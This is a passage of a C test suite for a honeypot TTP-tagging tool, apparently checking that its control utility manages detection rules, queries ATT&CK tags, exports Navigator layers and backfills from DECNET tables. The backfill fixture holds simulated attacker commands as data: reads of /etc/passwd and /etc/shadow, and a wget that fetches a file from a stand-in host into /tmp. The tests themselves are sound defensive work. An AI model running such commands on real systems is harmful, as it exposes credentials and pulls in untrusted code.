/*
 * ttpctl end to end: the real host/ttpctl and host/ttpd binaries against
 * a database populated by `ttpd --replay` (the real store code), plus
 * DECNET-shaped attackers / canary_triggers tables for backfill.  The
 * test opens its own sqlite3 connection only to look at what was
 * written.
 */
#include "config.h"

#include <sys/wait.h>

#include <check.h>
#include <errno.h>
#include <fcntl.h>
#include <pwd.h>
#include <regex.h>
#include <sqlite3.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "json.h"
#include "store.h"
#include "testutil.h"

/* ------------------------------------------------------------ helpers */

struct env {
	char *dir, *conf, db[1024], rules[1024], events[1024], bundle[1024];
	char *out, *err;
};

/* A config with our rule pack, the rule engine and canary plugins, the
 * ATT&CK bundle, store <dir>/ttpd.db. */
static void
env_init(struct env *e)
{
	char extra[2048];
	const char *src = tu_env("TTPD_SRCDIR");

	memset(e, 0, sizeof *e);
	e->dir = tu_mkdtemp();
	snprintf(e->rules, sizeof e->rules, "%s/conf/rules", src);
	snprintf(e->events, sizeof e->events, "%s/conf/sample-events.jsonl",
	    src);
	snprintf(e->bundle, sizeof e->bundle,
	    "%s/attack/enterprise-attack-18.1-core.json",
	    tu_env("TTPD_SHARED_DIR"));
	snprintf(extra, sizeof extra, "attack: { bundle = \"%s\"; };",
	    e->bundle);
	e->conf = tu_write_conf(e->dir, e->rules, "rule_engine,canary", extra);
	snprintf(e->db, sizeof e->db, "%s/ttpd.db", e->dir);
}

static void
env_free(struct env *e)
{
	free(e->out);
	free(e->err);
	tu_rmtree(e->dir);
	free(e->dir);
	free(e->conf);
}

/* ttpctl -c conf args...; output in e->out / e->err. */
static int
ctl(struct env *e, const char *const *args)
{
	const char *argv[64];
	size_t i;

	free(e->out);
	free(e->err);
	argv[0] = "-c";
	argv[1] = e->conf;
	for (i = 0; args[i] != NULL && i < 60; i++)
		argv[i + 2] = args[i];
	argv[i + 2] = NULL;
	return tu_run("host/ttpctl", argv, &e->out, &e->err);
}

#define CTL(e, ...) ctl((e), (const char *const[]){ __VA_ARGS__, NULL })

/* Fill the database through `ttpd --replay` of the sample events. */
static void
populate(struct env *e)
{
	const char *args[] = { "-c", e->conf, "--replay", e->events, NULL };
	char *out, *err;
	int rc = tu_run("host/ttpd", args, &out, &err);

	ck_assert_msg(rc == 0, "replay: %s", err);
	ck_assert_msg(strstr(out, "inserted=0 ") == NULL, "%s", out);
	free(out);
	free(err);
}

static sqlite3 *
db_open(const char *path)
{
	sqlite3 *db;

	ck_assert_int_eq(sqlite3_open(path, &db), SQLITE_OK);
	return db;
}

static void
db_exec(sqlite3 *db, const char *sql)
{
	char *msg = NULL;

	ck_assert_msg(sqlite3_exec(db, sql, NULL, NULL, &msg) == SQLITE_OK,
	    "%s: %s", sql, msg != NULL ? msg : "");
}

/* First column of the first row as an integer. */
static long long
db_int(const char *path, const char *sql)
{
	sqlite3 *db = db_open(path);
	sqlite3_stmt *st;
	long long v;

	ck_assert_msg(sqlite3_prepare_v2(db, sql, -1, &st, NULL) == SQLITE_OK,
	    "%s: %s", sql, sqlite3_errmsg(db));
	ck_assert_int_eq(sqlite3_step(st), SQLITE_ROW);
	v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	sqlite3_close(db);
	return v;
}

/* First column of the first row as text (malloc'd; NULL for SQL NULL). */
static char *
db_text(const char *path, const char *sql)
{
	sqlite3 *db = db_open(path);
	sqlite3_stmt *st;
	const unsigned char *t;
	char *v;

	ck_assert_msg(sqlite3_prepare_v2(db, sql, -1, &st, NULL) == SQLITE_OK,
	    "%s: %s", sql, sqlite3_errmsg(db));
	ck_assert_int_eq(sqlite3_step(st), SQLITE_ROW);
	t = sqlite3_column_text(st, 0);
	v = t != NULL ? strdup((const char *)t) : NULL;
	sqlite3_finalize(st);
	sqlite3_close(db);
	return v;
}

static int
matches(const char *re, const char *s)
{
	regex_t rx;
	int rc;

	ck_assert_int_eq(regcomp(&rx, re, REG_EXTENDED | REG_NOSUB), 0);
	rc = regexec(&rx, s, 0, NULL, 0) == 0;
	regfree(&rx);
	return rc;
}

/* The rules line of one rule id. */
static const char *
rules_line(const char *out, const char *id, char *buf, size_t len)
{
	char key[64];
	const char *p, *nl;

	snprintf(key, sizeof key, "\n%s ", id);
	if ((p = strstr(out, key)) == NULL)
		return NULL;
	p++;
	nl = strchr(p, '\n');
	snprintf(buf, len, "%.*s", (int)(nl != NULL ? nl - p : (long)
	    strlen(p)), p);
	return buf;
}

static char *
whoami(void)
{
	struct passwd *pw = getpwuid(getuid());

	ck_assert_ptr_nonnull(pw);
	return strdup(pw->pw_name);
}

/* -------------------------------------------------------------- rules */

START_TEST(test_rules_list)
{
	struct env e;
	char line[512];

	env_init(&e);
	ck_assert_msg(CTL(&e, "rules") == 0, "%s", e.err);
	ck_assert_msg(strncmp(e.out, "RULE ", 5) == 0, "%s", e.out);
	/* an engine rule, a canary rule and one no loaded plugin owns */
	ck_assert_ptr_nonnull(rules_line(e.out, "TD0001", line, sizeof line));
	ck_assert_msg(matches("^TD0001 +1 +rule_engine +enabled +- +- +/.*"
	    "/conf/rules/reconnaissance_TD0001.yaml$", line), "%s", line);
	ck_assert_ptr_nonnull(rules_line(e.out, "TD0501", line, sizeof line));
	ck_assert_msg(matches("^TD0501 +[0-9]+ +canary +enabled ", line),
	    "%s", line);
	ck_assert_ptr_nonnull(rules_line(e.out, "TD0301", line, sizeof line));
	ck_assert_msg(matches("^TD0301 +[0-9]+ +- +enabled ", line), "%s",
	    line);
	/* listing does not create the database */
	ck_assert_int_ne(access(e.db, F_OK), 0);
	env_free(&e);
}
END_TEST

START_TEST(test_rule_state_round_trip)
{
	struct env e;
	char line[512], sql[256], *s, *me = whoami();

	env_init(&e);
	ck_assert_msg(CTL(&e, "rule", "disable", "TD0001", "--for", "1h",
	    "--reason", "too noisy") == 0, "%s", e.err);
	ck_assert_msg(matches("^rule TD0001: disabled until [0-9-]+ "
	    "[0-9:.]+ UTC, set by .*: too noisy\n$", e.out), "%s", e.out);
	/* the row as DECNET's columns expect it */
	ck_assert_int_eq(db_int(e.db, "SELECT COUNT(*) FROM ttp_rule_state"),
	    1);
	s = db_text(e.db, "SELECT state FROM ttp_rule_state WHERE rule_id="
	    "'TD0001'");
	ck_assert_str_eq(s, "disabled");
	free(s);
	s = db_text(e.db, "SELECT set_by FROM ttp_rule_state");
	ck_assert_str_eq(s, me);
	free(s);
	s = db_text(e.db, "SELECT reason FROM ttp_rule_state");
	ck_assert_str_eq(s, "too noisy");
	free(s);
	s = db_text(e.db, "SELECT set_at FROM ttp_rule_state");
	ck_assert_msg(matches("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}:"
	    "[0-9]{2}\\.[0-9]{6}$", s), "%s", s);
	free(s);
	/* expires about an hour after set_at (text compare is enough) */
	ck_assert_int_eq(db_int(e.db, "SELECT ABS(strftime('%s', expires_at)"
	    " - strftime('%s', set_at) - 3600) <= 1 FROM ttp_rule_state"), 1);
	ck_assert_int_eq(db_int(e.db, "SELECT confidence_max IS NULL FROM "
	    "ttp_rule_state"), 1);
	ck_assert_msg(CTL(&e, "rules") == 0, "%s", e.err);
	rules_line(e.out, "TD0001", line, sizeof line);
	ck_assert_msg(matches("^TD0001 +1 +rule_engine +disabled +- +"
	    "[0-9-]+ [0-9:.]+ ", line), "%s", line);

	/* clip: ceiling, no expiry */
	ck_assert_msg(CTL(&e, "rule", "clip", "TD0001", "--max", "0.5") == 0,
	    "%s", e.err);
	ck_assert_int_eq(db_int(e.db, "SELECT confidence_max = 0.5 AND "
	    "expires_at IS NULL AND reason IS NULL AND state = 'clipped' FROM "
	    "ttp_rule_state"), 1);
	CTL(&e, "rules");
	rules_line(e.out, "TD0001", line, sizeof line);
	ck_assert_msg(matches("^TD0001 +1 +rule_engine +clipped +0\\.50 +- ",
	    line), "%s", line);
	ck_assert_msg(CTL(&e, "rule", "show", "TD0001") == 0, "%s", e.err);
	ck_assert_msg(strstr(e.out, "\nstate: clipped\n") != NULL &&
	    strstr(e.out, "\nconfidence_max: 0.5\n") != NULL &&
	    strstr(e.out, "(Active Scanning: Vulnerability Scanning)") != NULL,
	    "%s", e.out);
	snprintf(sql, sizeof sql, "\nset_by: %s\n", me);
	ck_assert_msg(strstr(e.out, sql) != NULL, "%s", e.out);

	/* enable: back, still one row */
	ck_assert_msg(CTL(&e, "rule", "enable", "TD0001") == 0, "%s", e.err);
	ck_assert_int_eq(db_int(e.db, "SELECT COUNT(*) FROM ttp_rule_state "
	    "WHERE state='enabled' AND confidence_max IS NULL AND expires_at "
	    "IS NULL"), 1);
	CTL(&e, "rules");
	rules_line(e.out, "TD0001", line, sizeof line);
	ck_assert_msg(matches("^TD0001 +1 +rule_engine +enabled +- +- ",
	    line), "%s", line);

	/* an expired state shows as enabled */
	{
		sqlite3 *db = db_open(e.db);

		db_exec(db, "UPDATE ttp_rule_state SET state='disabled', "
		    "expires_at='2000-01-01 00:00:00.000000'");
		sqlite3_close(db);
	}
	CTL(&e, "rules");
	rules_line(e.out, "TD0001", line, sizeof line);
	ck_assert_msg(matches("^TD0001 +1 +rule_engine +enabled ", line),
	    "%s", line);
	CTL(&e, "rule", "show", "TD0001");
	ck_assert_msg(strstr(e.out, "(expired: reverted to enabled)") != NULL,
	    "%s", e.out);
	free(me);
	env_free(&e);
}
END_TEST

/* Count the --tags-out lines of one rule id. */
static int
count_rule(const char *jsonl, const char *rule_id, double *maxconf)
{
	char key[64];
	const char *p = jsonl, *nl;
	ttpd_value *t;
	double c;
	int n = 0;

	snprintf(key, sizeof key, "\"rule_id\":\"%s\"", rule_id);
	*maxconf = 0;
	for (; *p != '\0'; p = nl + 1) {
		nl = strchr(p, '\n');
		ck_assert_ptr_nonnull(nl);
		if (memmem(p, (size_t)(nl - p), key, strlen(key)) == NULL)
			continue;
		t = jv_parse(p, (size_t)(nl - p), NULL, 0);
		ck_assert_ptr_nonnull(t);
		ck_assert_int_eq(jv_get_number(jv_object_get(t, "confidence"),
		    &c), TTPD_OK);
		if (c > *maxconf)
			*maxconf = c;
		jv_decref(t);
		n++;
	}
	return n;
}

/* Replay the sample into a fresh database db (store.path override). */
static char *
replay_into(struct env *e, const char *db)
{
	char ov[1200], *out, *err;
	const char *args[] = { "-c", e->conf, "-o", ov, "--replay", e->events,
		"--tags-out", "-", NULL };
	int rc;

	snprintf(ov, sizeof ov, "store.path=\"%s\"", db);
	rc = tu_run("host/ttpd", args, &out, &err);
	ck_assert_msg(rc == 0, "%s", err);
	free(err);
	return out;
}

START_TEST(test_state_honoured_by_replay)
{
	struct env e;
	char db2[1100], db3[1100], ov2[1200], ov3[1200], *tags;
	char db4[1100], ov4[1200];
	double maxc;
	int base, n;

	env_init(&e);
	/* which rules fire on the sample */
	tags = replay_into(&e, e.db);
	base = count_rule(tags, "TD0019", &maxc);
	ck_assert_int_gt(base, 0);
	ck_assert_double_gt(maxc, 0.5);
	ck_assert_int_gt(count_rule(tags, "TD0001", &maxc), 0);
	free(tags);

	/* disabled: TD0004 emits nothing, the others still tag */
	snprintf(db2, sizeof db2, "%s/2.db", e.dir);
	snprintf(ov2, sizeof ov2, "store.path=\"%s\"", db2);
	ck_assert_msg(CTL(&e, "-o", ov2, "rule", "disable", "TD0019") == 0,
	    "%s", e.err);
	tags = replay_into(&e, db2);
	ck_assert_int_eq(count_rule(tags, "TD0019", &maxc), 0);
	ck_assert_int_gt(count_rule(tags, "TD0001", &maxc), 0);
	free(tags);

	/* clipped at 0.5: same tags, none above the ceiling */
	snprintf(db3, sizeof db3, "%s/3.db", e.dir);
	snprintf(ov3, sizeof ov3, "store.path=\"%s\"", db3);
	ck_assert_msg(CTL(&e, "-o", ov3, "rule", "clip", "TD0019", "--max",
	    "0.5") == 0, "%s", e.err);
	tags = replay_into(&e, db3);
	n = count_rule(tags, "TD0019", &maxc);
	ck_assert_int_eq(n, base);
	ck_assert_double_le(maxc, 0.5);
	free(tags);

	/* disabled with an expiry that has passed: the rule is back */
	snprintf(db4, sizeof db4, "%s/4.db", e.dir);
	snprintf(ov4, sizeof ov4, "store.path=\"%s\"", db4);
	ck_assert_msg(CTL(&e, "-o", ov4, "rule", "disable", "TD0019", "--for",
	    "1h") == 0, "%s", e.err);
	{
		sqlite3 *db = db_open(db4);

		db_exec(db, "UPDATE ttp_rule_state SET expires_at="
		    "'2000-01-01 00:00:00.000000'");
		sqlite3_close(db);
	}
	tags = replay_into(&e, db4);
	ck_assert_int_eq(count_rule(tags, "TD0019", &maxc), base);
	free(tags);
	env_free(&e);
}
END_TEST

START_TEST(test_rule_errors)
{
	struct env e;

	env_init(&e);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "NOPE"), 3);
	ck_assert_msg(strstr(e.err, "ttpctl: no rule 'NOPE' in rules.dirs (")
	    == e.err, "%s", e.err);
	ck_assert_int_eq(CTL(&e, "rule", "show", "NOPE"), 3);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001", "--for", "5x"),
	    2);
	ck_assert_str_eq(e.err, "ttpctl: --for '5x': bad duration: expected a "
	    "number and a unit, e.g. 90s, 30m, 1h, 7d, 2w or 1h30m\n");
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001", "--for", "0s"),
	    2);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001", "--for", "h"),
	    2);
	ck_assert_int_eq(CTL(&e, "rule", "clip", "TD0001"), 2);
	ck_assert_msg(strstr(e.err, "--max X is required") != NULL, "%s",
	    e.err);
	ck_assert_int_eq(CTL(&e, "rule", "clip", "TD0001", "--max", "1.5"), 2);
	ck_assert_str_eq(e.err, "ttpctl: rule clip: --max '1.5': expected a "
	    "number from 0 to 1\n");
	ck_assert_int_eq(CTL(&e, "rule", "clip", "TD0001", "--max", "nan"), 2);
	ck_assert_int_eq(CTL(&e, "rule", "enable", "TD0001", "--for", "1h"),
	    2);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001", "--max", "0.1"),
	    2);
	ck_assert_int_eq(CTL(&e, "rule", "frobnicate", "TD0001"), 2);
	ck_assert_int_eq(CTL(&e, "rule", "disable"), 2);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "A", "B"), 2);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001", "--bogus"), 2);
	ck_assert_int_eq(CTL(&e, "frobnicate"), 2);
	ck_assert_str_eq(e.err, "ttpctl: unknown command 'frobnicate' (rules, "
	    "rule, tags, navigator, backfill, status)\n");
	/* nothing was written by any of these */
	ck_assert_int_ne(access(e.db, F_OK), 0);
	/* a broken configuration */
	ck_assert_int_eq(CTL(&e, "-o", "x", "rules"), 1);
	{
		const char *args[] = { "-c", "/nonexistent/ttpd.conf", "rules",
			NULL };

		free(e.out);
		free(e.err);
		ck_assert_int_eq(tu_run("host/ttpctl", args, &e.out, &e.err), 1);
		ck_assert_msg(strstr(e.err, "cannot open /nonexistent/ttpd.conf")
		    != NULL, "%s", e.err);
	}
	env_free(&e);
}
END_TEST

START_TEST(test_database_locked)
{
	struct env e;
	struct store *s;
	char err[512];

	env_init(&e);
	populate(&e);
	/* another process (here: this one) holds the write lock */
	s = store_open(e.db, NULL, err, sizeof err);
	ck_assert_msg(s != NULL, "%s", err);
	ck_assert_int_eq(store_begin(s), 0);
	{
		const char *args[] = { "-c", e.conf, "-o",
			"store.busy_timeout_ms=50", "rule", "disable", "TD0001",
			NULL };

		free(e.out);
		free(e.err);
		ck_assert_int_eq(tu_run("host/ttpctl", args, &e.out, &e.err), 4);
	}
	ck_assert_msg(strstr(e.err, "database is locked") != NULL &&
	    strstr(e.err, "(database locked by another process for more than "
	    "store.busy_timeout_ms = 50 ms; retry, or raise it with -o "
	    "store.busy_timeout_ms=N)\n") != NULL, "%s", e.err);
	ck_assert_int_eq(store_rollback(s), 0);
	store_close(s);
	ck_assert_int_eq(CTL(&e, "rule", "disable", "TD0001"), 0);
	env_free(&e);
}
END_TEST

/* --------------------------------------------------------------- tags */

static const ttpd_value *
find_row(const ttpd_value *arr, const char *tech, const char *sub)
{
	const ttpd_value *o;
	const char *t, *s;
	size_t i;

	for (i = 0; i < jv_array_size(arr); i++) {
		o = jv_array_get(arr, i);
		t = jv_string(jv_object_get(o, "technique_id"));
		s = jv_string(jv_object_get(o, "sub_technique_id"));
		if (t != NULL && strcmp(t, tech) == 0 && ((sub == NULL &&
		    s == NULL) || (sub != NULL && s != NULL &&
		    strcmp(s, sub) == 0)))
			return o;
	}
	return NULL;
}

static int64_t
member_int(const ttpd_value *o, const char *key)
{
	int64_t v = -1;

	ck_assert_int_eq(jv_get_int(jv_object_get(o, key), &v), TTPD_OK);
	return v;
}

START_TEST(test_tags)
{
	struct env e;
	ttpd_value *arr;
	const ttpd_value *o;
	long long total, sum = 0;
	size_t i;

	env_init(&e);
	/* no database yet: an error, not an empty one */
	ck_assert_int_eq(CTL(&e, "tags"), 1);
	ck_assert_msg(strstr(e.err, ": no such database (store.path in ") !=
	    NULL, "%s", e.err);
	ck_assert_int_ne(access(e.db, F_OK), 0);
	populate(&e);
	total = db_int(e.db, "SELECT COUNT(*) FROM ttp_tag");

	ck_assert_msg(CTL(&e, "tags", "--json") == 0, "%s", e.err);
	arr = jv_parse(e.out, strlen(e.out), NULL, 0);
	ck_assert_ptr_nonnull(arr);
	ck_assert_int_eq(jv_type(arr), TTPD_VT_ARRAY);
	for (i = 0; i < jv_array_size(arr); i++)
		sum += member_int(jv_array_get(arr, i), "count");
	ck_assert_int_eq(sum, total);
	o = find_row(arr, "T1059", "T1059.004");
	ck_assert_ptr_nonnull(o);
	ck_assert_str_eq(jv_string(jv_object_get(o, "technique_name")),
	    "Command and Scripting Interpreter");
	ck_assert_str_eq(jv_string(jv_object_get(o, "sub_technique_name")),
	    "Command and Scripting Interpreter: Unix Shell");
	ck_assert_str_eq(jv_string(jv_object_get(o, "mitre_url")),
	    "https://attack.mitre.org/techniques/T1059/004");
	ck_assert_str_eq(jv_string(jv_array_get(jv_object_get(o, "tactics"),
	    0)), "TA0002");
	ck_assert_int_eq(member_int(o, "count"), db_int(e.db, "SELECT "
	    "COUNT(*) FROM ttp_tag WHERE sub_technique_id='T1059.004'"));
	jv_decref(arr);

	/* one attacker, one session */
	ck_assert_msg(CTL(&e, "tags", "--json", "--attacker",
	    "c0ffee00-0000-4000-8000-000000000001") == 0, "%s", e.err);
	arr = jv_parse(e.out, strlen(e.out), NULL, 0);
	ck_assert_ptr_nonnull(arr);
	for (sum = 0, i = 0; i < jv_array_size(arr); i++)
		sum += member_int(jv_array_get(arr, i), "count");
	ck_assert_int_eq(sum, db_int(e.db, "SELECT COUNT(*) FROM ttp_tag "
	    "WHERE attacker_uuid='c0ffee00-0000-4000-8000-000000000001'"));
	ck_assert_int_gt(sum, 0);
	ck_assert_int_lt(sum, total);
	jv_decref(arr);
	ck_assert_msg(CTL(&e, "tags", "--json", "--session", "s-1002") == 0,
	    "%s", e.err);
	arr = jv_parse(e.out, strlen(e.out), NULL, 0);
	for (sum = 0, i = 0; i < jv_array_size(arr); i++)
		sum += member_int(jv_array_get(arr, i), "count");
	ck_assert_int_eq(sum, db_int(e.db, "SELECT COUNT(*) FROM ttp_tag "
	    "WHERE session_id='s-1002'"));
	ck_assert_int_gt(sum, 0);
	jv_decref(arr);

	/* --since: everything since 2000, nothing since 2999 */
	ck_assert_int_eq(CTL(&e, "tags", "--json", "--since", "2999-01-01"),
	    0);
	ck_assert_str_eq(e.out, "[]\n");
	ck_assert_int_eq(CTL(&e, "tags", "--json", "--since", "1d"), 0);
	ck_assert_int_ne(strcmp(e.out, "[]\n"), 0);

	/* the table */
	ck_assert_msg(CTL(&e, "tags") == 0, "%s", e.err);
	ck_assert_msg(matches("\nT1059 +T1059\\.004 +Command and Scripting "
	    "Interpreter: Unix Shell +TA0002 +[0-9]+ ", e.out), "%s", e.out);

	/* errors */
	ck_assert_int_eq(CTL(&e, "tags", "--attacker", "a", "--session", "b"),
	    2);
	ck_assert_int_eq(CTL(&e, "tags", "--since", "yesterday"), 2);
	ck_assert_msg(strstr(e.err, "--since 'yesterday': expected") != NULL,
	    "%s", e.err);
	ck_assert_int_eq(CTL(&e, "tags", "--attacker"), 2);
	ck_assert_int_eq(CTL(&e, "tags", "extra"), 2);
	env_free(&e);
}
END_TEST

START_TEST(test_identity_rollup)
{
	struct env e;
	sqlite3 *db;
	ttpd_value *arr;
	long long sum = 0;
	size_t i;

	env_init(&e);
	populate(&e);
	/* DECNET: identity scope = identity tags plus tags of attackers whose
	 * identity_id it is */
	db = db_open(e.db);
	db_exec(db, "CREATE TABLE attackers (uuid VARCHAR NOT NULL, ip VARCHAR"
	    " NOT NULL, identity_id VARCHAR, last_seen DATETIME, commands JSON,"
	    " PRIMARY KEY (uuid));"
	    "INSERT INTO attackers VALUES ('c0ffee00-0000-4000-8000-"
	    "000000000001', '203.0.113.10', 'ident-1', NULL, NULL);");
	sqlite3_close(db);
	ck_assert_msg(CTL(&e, "tags", "--json", "--identity", "ident-1") == 0,
	    "%s", e.err);
	arr = jv_parse(e.out, strlen(e.out), NULL, 0);
	ck_assert_ptr_nonnull(arr);
	for (i = 0; i < jv_array_size(arr); i++)
		sum += member_int(jv_array_get(arr, i), "count");
	ck_assert_int_gt(sum, 0);
	ck_assert_int_eq(sum, db_int(e.db, "SELECT COUNT(*) FROM ttp_tag "
	    "WHERE identity_uuid='ident-1' OR attacker_uuid="
	    "'c0ffee00-0000-4000-8000-000000000001'"));
	jv_decref(arr);
	env_free(&e);
}
END_TEST

/* ---------------------------------------------------------- navigator */

START_TEST(test_navigator)
{
	struct env e;
	char layer[1100], *text, sql[256];
	ttpd_value *l;
	const ttpd_value *v, *techs, *t, *g;
	int64_t maxscore = 0, score, parents = 0;
	const char *id;
	size_t i;
	int b;

	env_init(&e);
	populate(&e);
	snprintf(layer, sizeof layer, "%s/layer.json", e.dir);
	ck_assert_msg(CTL(&e, "navigator", "-o", layer) == 0, "%s", e.err);
	text = tu_read_file(layer, NULL);
	ck_assert_ptr_nonnull(text);
	l = jv_parse(text, strlen(text), NULL, 0);
	free(text);
	ck_assert_ptr_nonnull(l);

	/* the fields the Navigator requires of a 4.x layer */
	ck_assert_int_eq(jv_type(jv_object_get(l, "name")), TTPD_VT_STRING);
	v = jv_object_get(l, "versions");
	ck_assert_str_eq(jv_string(jv_object_get(v, "attack")), "18");
	ck_assert_str_eq(jv_string(jv_object_get(v, "layer")), "4.5");
	ck_assert_msg(matches("^[0-9]+\\.[0-9]+\\.[0-9]+$",
	    jv_string(jv_object_get(v, "navigator"))), "navigator version");
	ck_assert_str_eq(jv_string(jv_object_get(l, "domain")),
	    "enterprise-attack");
	techs = jv_object_get(l, "techniques");
	ck_assert_int_eq(jv_type(techs), TTPD_VT_ARRAY);
	ck_assert_uint_gt(jv_array_size(techs), 0);
	for (i = 0; i < jv_array_size(techs); i++) {
		t = jv_array_get(techs, i);
		id = jv_string(jv_object_get(t, "techniqueID"));
		ck_assert_ptr_nonnull(id);
		ck_assert_msg(matches("^T[0-9]{4}(\\.[0-9]{3})?$", id), "%s",
		    id);
		score = member_int(t, "score");
		ck_assert_int_gt(score, 0);
		if (score > maxscore)
			maxscore = score;
		/* scored by count: a technique counts all its tags, a
		 * sub-technique those naming it */
		if (strchr(id, '.') == NULL) {
			snprintf(sql, sizeof sql, "SELECT COUNT(*) FROM ttp_tag "
			    "WHERE technique_id='%s'", id);
			parents += score;
		} else
			snprintf(sql, sizeof sql, "SELECT COUNT(*) FROM ttp_tag "
			    "WHERE sub_technique_id='%s'", id);
		ck_assert_int_eq(score, db_int(e.db, sql));
		ck_assert_int_eq(jv_get_bool(jv_object_get(t, "enabled"), &b),
		    TTPD_OK);
		ck_assert_int_eq(jv_type(jv_object_get(t, "comment")),
		    TTPD_VT_STRING);
		/* a technique id appears once */
		if (i > 0)
			ck_assert_str_ne(id, jv_string(jv_object_get(
			    jv_array_get(techs, i - 1), "techniqueID")));
	}
	ck_assert_int_eq(parents, db_int(e.db, "SELECT COUNT(*) FROM "
	    "ttp_tag"));
	g = jv_object_get(l, "gradient");
	ck_assert_uint_ge(jv_array_size(jv_object_get(g, "colors")), 2);
	ck_assert_int_eq(member_int(g, "minValue"), 0);
	ck_assert_int_eq(member_int(g, "maxValue"), maxscore);
	ck_assert_int_eq(jv_type(jv_object_get(l, "legendItems")),
	    TTPD_VT_ARRAY);
	jv_decref(l);

	/* stdout, and --since in the future: a valid empty layer */
	ck_assert_int_eq(CTL(&e, "navigator", "--since", "2999-01-01"), 0);
	l = jv_parse(e.out, strlen(e.out), NULL, 0);
	ck_assert_ptr_nonnull(l);
	ck_assert_uint_eq(jv_array_size(jv_object_get(l, "techniques")), 0);
	jv_decref(l);
	ck_assert_int_eq(CTL(&e, "navigator", "--since", "3q"), 2);
	ck_assert_int_eq(CTL(&e, "navigator", "-o", "/nonexistent/x.json"), 1);
	ck_assert_msg(strstr(e.err, "/nonexistent/x.json: No such file") !=
	    NULL, "%s", e.err);
	env_free(&e);
}
END_TEST

/* ----------------------------------------------------------- backfill */

/* DECNET's attackers and canary_triggers with a week-old and a
 * month-old attacker. */
static void
decnet_history(const char *path)
{
	sqlite3 *db = db_open(path);

	db_exec(db,
	    "CREATE TABLE attackers (uuid VARCHAR NOT NULL, ip VARCHAR NOT NULL,"
	    " identity_id VARCHAR, last_seen DATETIME, commands JSON,"
	    " PRIMARY KEY (uuid));"
	    "CREATE TABLE canary_triggers (uuid VARCHAR NOT NULL, token_uuid"
	    " VARCHAR, attacker_id VARCHAR, src_ip VARCHAR, user_agent VARCHAR,"
	    " request_path VARCHAR, dns_qname VARCHAR, raw_headers JSON,"
	    " occurred_at DATETIME, PRIMARY KEY (uuid));"
	    /* the profiler's key is "command" */
	    "INSERT INTO attackers VALUES ('att-1', '198.51.100.1', 'ident-1',"
	    " strftime('%Y-%m-%d %H:%M:%f000', 'now', '-1 day'),"
	    " '[{\"command\": \"cat /etc/passwd\", \"session_id\": \"s-9\","
	    "   \"decky\": \"decky-1\"},"
	    "  {\"command\": \"wget http://198.51.100.7/x -O /tmp/x\","
	    "   \"id\": \"cmd-42\"},"
	    "  {\"command_text\": \"whoami\"},"
	    "  {\"nothing\": 1}, \"not an object\", 7]');"
	    "INSERT INTO attackers VALUES ('att-old', '198.51.100.2', NULL,"
	    " strftime('%Y-%m-%d %H:%M:%f000', 'now', '-30 days'),"
	    " '[{\"command\": \"cat /etc/shadow\"}]');"
	    "INSERT INTO attackers VALUES ('att-bad', '198.51.100.3', NULL,"
	    " strftime('%Y-%m-%d %H:%M:%f000', 'now'), 'not json');"
	    "INSERT INTO canary_triggers VALUES ('trig-1', 'tok-1', 'att-1',"
	    " '198.51.100.1', 'HeadlessChrome/119', '/a', NULL,"
	    " '{\"X-Y\": \"1\"}', strftime('%Y-%m-%d %H:%M:%f000', 'now'));");
	sqlite3_close(db);
}

START_TEST(test_backfill)
{
	struct env e;
	char *s;

	env_init(&e);
	decnet_history(e.db);

	/* dry run: tags, writes nothing */
	ck_assert_msg(CTL(&e, "backfill", "--since-days", "7", "--dry-run") ==
	    0, "%s", e.err);
	ck_assert_msg(matches("^backfill since=[0-9-]+ [0-9:.]+ source=all "
	    "dry_run=true batch_size=500\nsource=command rows=2 commands=4 "
	    "tags=[1-9][0-9]* inserted=0 dry_run=true elapsed_s=[0-9.]+\n"
	    "source=canary rows=1 tags=[0-9]+ inserted=0 dry_run=true "
	    "elapsed_s=[0-9.]+\n$", e.out), "%s", e.out);
	ck_assert_int_eq(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag"), 0);

	/* for real */
	ck_assert_msg(CTL(&e, "backfill", "--since-days", "7", "--source",
	    "command", "--batch-size", "1") == 0, "%s", e.err);
	ck_assert_msg(matches("\nsource=command rows=2 commands=4 tags=([1-9]"
	    "[0-9]*) inserted=[1-9][0-9]* dry_run=false", e.out), "%s", e.out);
	ck_assert_ptr_null(strstr(e.out, "source=canary"));
	/* the history was read from "command": ids as DECNET derives them */
	ck_assert_int_gt(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag WHERE "
	    "source_kind='command' AND source_id='att-1#cmd0' AND "
	    "attacker_uuid='att-1' AND identity_uuid='ident-1' AND "
	    "session_id='s-9' AND decky_id='decky-1'"), 0);
	ck_assert_int_gt(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag WHERE "
	    "source_id='cmd-42'"), 0);
	ck_assert_int_gt(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag WHERE "
	    "source_id='att-1#cmd2'"), 0);
	/* outside the window */
	ck_assert_int_eq(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag WHERE "
	    "attacker_uuid='att-old'"), 0);
	s = db_text(e.db, "SELECT attack_release FROM ttp_tag LIMIT 1");
	ck_assert_str_eq(s, "v18.1");
	free(s);

	/* again: nothing new */
	ck_assert_msg(CTL(&e, "backfill", "--since-days", "7") == 0, "%s",
	    e.err);
	ck_assert_msg(matches("\nsource=command rows=2 commands=4 tags=[1-9]"
	    "[0-9]* inserted=0 dry_run=false", e.out), "%s", e.out);
	ck_assert_msg(matches("\nsource=canary rows=1 tags=[0-9]+ inserted=0 ",
	    e.out), "%s", e.out);

	/* a wider window reaches the old attacker */
	ck_assert_msg(CTL(&e, "backfill", "--since-days", "60") == 0, "%s",
	    e.err);
	ck_assert_msg(matches("\nsource=command rows=3 commands=5 tags=[0-9]+ "
	    "inserted=[1-9]", e.out), "%s", e.out);
	ck_assert_int_gt(db_int(e.db, "SELECT COUNT(*) FROM ttp_tag WHERE "
	    "attacker_uuid='att-old'"), 0);

	/* usage errors */
